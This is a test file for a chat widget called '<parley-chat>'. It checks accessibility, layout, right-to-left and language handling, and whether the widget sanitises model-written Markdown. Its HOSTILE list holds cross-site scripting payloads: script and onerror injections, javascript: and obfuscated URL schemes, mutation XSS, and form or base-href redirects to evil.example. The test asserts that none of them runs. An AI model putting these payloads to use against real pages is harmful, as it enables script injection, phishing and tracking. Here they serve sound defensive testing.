/** <parley-chat> for everybody: checked by axe in each of its states, and by Markdown that means harm. */
import { afterAll, beforeAll, beforeEach, describe, expect, test } from 'vitest'
import { violations } from './axe'
import { CHROMIUM } from './chromium'
import { answered, ask, Stage } from './widget-stage'

const ANSWER = `Make a key that is **bound to an assistant** [keys.txt]. See [the guide](https://docs.example.com/keys).

# Steps

- [x] Make the key.
- Paste it:

\`\`\`html
<parley-chat></parley-chat>
\`\`\`

| limit | what it does |
| --- | ---: |
| origins | pages |

> A quote, with \`code\` in it.

<<Can a key expire?>>`

const PHONE = { viewport: { width: 390, height: 780 }, isMobile: true, hasTouch: true }
/** Each size and each scheme once. */
const LOOKS = [
  { size: 'desktop', scheme: 'light', options: { viewport: { width: 1000, height: 760 } } },
  { size: 'phone', scheme: 'dark', options: PHONE },
]

/** What a model could be led to write, by a document or by its asker. */
const HOSTILE = [
  '<script>globalThis.harmed = 1</script>',
  '<img src=x onerror="globalThis.harmed = 2">',
  '<svg onload="globalThis.harmed = 3"><script>globalThis.harmed = 3</script></svg>',
  '<iframe srcdoc="<script>parent.harmed = 4</script>"></iframe>',
  '[a](javascript:globalThis.harmed=5)',
  '[b](JaVaScRiPt:globalThis.harmed=6)',
  '[c](&#106;avascript:globalThis.harmed=7)',
  '[d](data:text/html,<script>globalThis.harmed=8</script>)',
  '[e](vbscript:msgbox)',
  '[f](java\tscript:globalThis.harmed=9)',
  '<javascript:globalThis.harmed=10>',
  '![tracker](https://tracker.example/pixel.png)',
  '![x](x" onerror="globalThis.harmed=11)',
  '<a href="javascript:globalThis.harmed=12" onclick="globalThis.harmed=12">g</a>',
  '<form action="https://evil.example"><input name=q><button>Sign in</button></form>',
  '<style>* { display: none }</style><link rel=stylesheet href=https://evil.example/x.css>',
  '<math><mtext></table><mglyph><style><img src=x onerror=globalThis.harmed=13></style></mglyph></math>',
  '<b style="position:fixed;inset:0;background:url(https://tracker.example/x)">h</b>',
  '<object data="javascript:globalThis.harmed=14"></object><embed src="https://evil.example/x.swf">',
  '<base href="https://evil.example/"><meta http-equiv=refresh content="0;url=https://evil.example">',
  '```"><img src=x onerror=globalThis.harmed=15>\ncode\n```',
  '`<img src=x onerror=globalThis.harmed=16>`',
  '[i]: javascript:globalThis.harmed=17\n\n[i]',
  '<details open ontoggle="globalThis.harmed=18">',
  '| <img src=x onerror=globalThis.harmed=19> |\n| --- |\n| [j](javascript:globalThis.harmed=20) |',
  '\ue0001\ue001 \ue000999:999\ue001 \ue000<b>\ue001',
]

describe.runIf(CHROMIUM)('the widget', () => {
  let stage: Stage

  beforeAll(async () => {
    stage = await Stage.set()
  })
  afterAll(() => stage.strike())

  beforeEach(() => {
    stage.writer.answer = () => ANSWER
    return async () => expect(await stage.reset()).toEqual([])
  })

  for (const { size, scheme, options } of LOOKS) {
    test(`has no fault that axe knows, on a ${size}, ${scheme}, in any state`, async () => {
      const page = await stage.tab(await stage.visitor(options), { mode: 'bubble' }, scheme)
      const check = async (state: string) => expect([state, await violations(page)]).toEqual([state, []])
      await check('closed')
      await page.getByRole('button', { name: 'Open chat' }).click()
      await page.locator('.suggestion').first().waitFor()
      await check('open')
      stage.writer.holdAt(0)
      await ask(page)
      await page.locator('.chip').first().waitFor()
      await check('searching')
      stage.writer.go()
      await answered(page)
      await check('answered')
      await page.locator('.cite').first().click()
      await page.locator('.card:not([hidden])').waitFor()
      await check('card')
      await page.keyboard.press('Escape')
      await page.getByRole('button', { name: 'Check against the sources' }).click()
      await page.locator('.doubt').first().click()
      await page.locator('.card:not([hidden])').waitFor()
      await check('checked')
      await page.keyboard.press('Escape')
      await page.getByRole('button', { name: 'Bad answer' }).click()
      await page.getByLabel('Tell us more (optional)').waitFor()
      await check('rated')
      await page.getByRole('button', { name: 'Edit the question' }).click({ force: true })
      await check('editing')
      await page.keyboard.press('Escape')
      await page.getByRole('button', { name: 'History' }).click()
      await page.locator('.history-open').waitFor()
      await check('history')
      await page.keyboard.press('Escape')
      stage.writer.holdAt(4)
      await page.locator('.followup').first().click()
      await page.locator('.turn:nth-child(2) .block').first().waitFor()
      await check('writing')
      await page.getByRole('button', { name: 'Stop', exact: true }).click()
      await page.getByRole('button', { name: 'Try again' }).waitFor()
      await check('stopped')
    })
  }

  for (const mode of ['inline', 'panel', 'dialog', 'page']) {
    test(`has no fault that axe knows as ${mode}`, async () => {
      const page = await stage.tab(await stage.visitor(), { mode, open: '' })
      await page.locator('.suggestion').first().waitFor()
      expect(await violations(page)).toEqual([])
      await ask(page)
      await answered(page)
      expect(await violations(page)).toEqual([])
    })
  }

  for (const [accent, scheme] of [
    ['#ffe600', 'light'],
    ['#101040', 'dark'],
    ['#dc2626', 'light'],
  ] as const) {
    test(`can be read whatever its accent: ${accent}, ${scheme}`, async () => {
      const page = await stage.tab(await stage.visitor(), { mode: 'inline' }, scheme)
      await page.evaluate(
        `document.querySelector('parley-chat').style.setProperty('--parley-accent', '${accent}')`,
      )
      await page.locator('.suggestion').first().waitFor()
      expect(await violations(page)).toEqual([])
      await ask(page)
      await answered(page)
      await page.locator('.cite').first().click()
      await page.locator('.card:not([hidden])').waitFor()
      expect(await violations(page)).toEqual([])
    })
  }

  test('is as large to the finger as it has to be, and no wider than a phone', async () => {
    const page = await stage.tab(await stage.visitor(PHONE), { mode: 'bubble', open: '' })
    await ask(page)
    await answered(page)
    const small = (await page.evaluate(`
      [...document.querySelector('parley-chat').shadowRoot.querySelectorAll('button')]
        .filter((button) => button.checkVisibility())
        .map((button) => [button.className, button.getBoundingClientRect()])
        .filter(([, { width, height }]) => width < 24 || height < 24)
        .map(([name]) => name)`)) as string[]
    expect(small).toEqual([])
    expect(await page.evaluate('document.documentElement.scrollWidth')).toBe(390)
    const box = await page.locator('dialog').boundingBox()
    expect([box?.width, box?.height]).toEqual([390, 780])
  })

  test('says what happens to whoever listens, block by block', async () => {
    const page = await stage.tab(await stage.visitor())
    await ask(page)
    await answered(page)
    const said = await page.locator('[aria-live="polite"] p').allTextContents()
    expect(said[0]).toBe('Searching…')
    expect(said.at(-1)).toBe('The answer is complete.')
    expect(said).toContain('Steps')
    expect(said[1]).toBe('Make a key that is bound to an assistant . See the guide.'.replace(' .', '.'))
  })

  test('writes from right to left where a text is written so', async () => {
    stage.writer.answer = () => 'المفتاح مرتبط بمساعد.\n\nAnd this is English.'
    const page = await stage.tab(await stage.visitor(), { lang: 'ar' })
    const box = page.getByRole('textbox')
    await box.and(page.getByPlaceholder('اطرح سؤالًا')).waitFor()
    await box.fill('How do I make a key for a page?')
    await box.press('Enter')
    await answered(page)
    const directions = await page
      .locator('.block p')
      .evaluateAll((all) => all.map((each) => String(Object(each).matches(':dir(rtl)'))))
    expect(directions).toEqual(['true', 'false'])
    await page.getByRole('button', { name: 'مقارنة بالمصادر' }).click()
    await page.locator('.doubt').first().click()
    const card = page.getByRole('dialog', { name: 'غير موجودة في المصادر.' })
    await card.waitFor()
    expect(await card.evaluate((each) => Object(each).matches(':dir(rtl)'))).toBe(true)
  })

  test('speaks another language when its own is changed, however its tag is written', async () => {
    const page = await stage.tab(await stage.visitor(), { lang: 'de_CH' })
    const speak = (tag: string) =>
      page.evaluate(`document.querySelector('parley-chat').setAttribute('lang', '${tag}')`)
    await page.getByPlaceholder('Frage stellen').waitFor()
    await speak('pl')
    await page.getByPlaceholder('Zadaj pytanie').waitFor()
    await speak('en_GB')
    await page.getByPlaceholder('Ask a question').waitFor()
    await speak('not a language')
    await page.getByPlaceholder('Ask a question').waitFor()
    await speak('ar')
    await page.getByPlaceholder('اطرح سؤالًا').waitFor()
    expect(await page.locator('.root').getAttribute('dir')).toBe('rtl')
  })

  test('says in the language of the page that a question is too long', async () => {
    const page = await stage.tab(await stage.visitor(), { lang: 'de' })
    const box = page.getByRole('textbox')
    await box.and(page.getByPlaceholder('Frage stellen')).waitFor()
    await box.fill('Wie mache ich einen Schlüssel? '.repeat(700))
    await box.press('Enter')
    const told = page.locator('.turn[aria-busy="false"] .problem p')
    expect(await told.textContent()).toBe('Diese Frage ist zu lang. Bitte kürzen Sie sie.')
  })

  test('does nothing that a model could be led to write', async () => {
    stage.writer.answer = () => HOSTILE.join('\n\n')
    const context = await stage.visitor()
    const page = await stage.tab(context)
    const asked: string[] = []
    page.on('request', (request) => asked.push(request.url()))
    await ask(page)
    const answer = await answered(page)
    expect(await page.evaluate('globalThis.harmed')).toBe(undefined)
    const elements = await answer
      .locator('*')
      .evaluateAll((all) => [...new Set(all.map((each) => String(Object(each).localName)))].sort())
    const harmless =
      'a blockquote br button code div em h4 li ol p path pre span strong svg table tbody td th thead tr ul'
    expect(elements.filter((name) => !harmless.split(' ').includes(name))).toEqual([])
    const targets = await answer
      .locator('a')
      .evaluateAll((all) => all.map((each) => String(Object(each).getAttribute('href'))))
    expect(targets.filter((target) => !/^https?:/.test(target))).toEqual([])
    const attributes = await answer
      .locator('*')
      .evaluateAll((all) => all.flatMap((each) => Object(each).getAttributeNames() as string[]))
    expect(attributes.filter((name) => /^on|^style$|^src/.test(name))).toEqual([])
    expect(asked.filter((address) => !address.startsWith(stage.line.url))).toEqual([])
    // All of it can still be read.
    expect(await answer.textContent()).toContain('<script>globalThis.harmed = 1</script>')
    await page.reload()
    await answered(page)
    expect(await page.evaluate('globalThis.harmed')).toBe(undefined)
  })
})
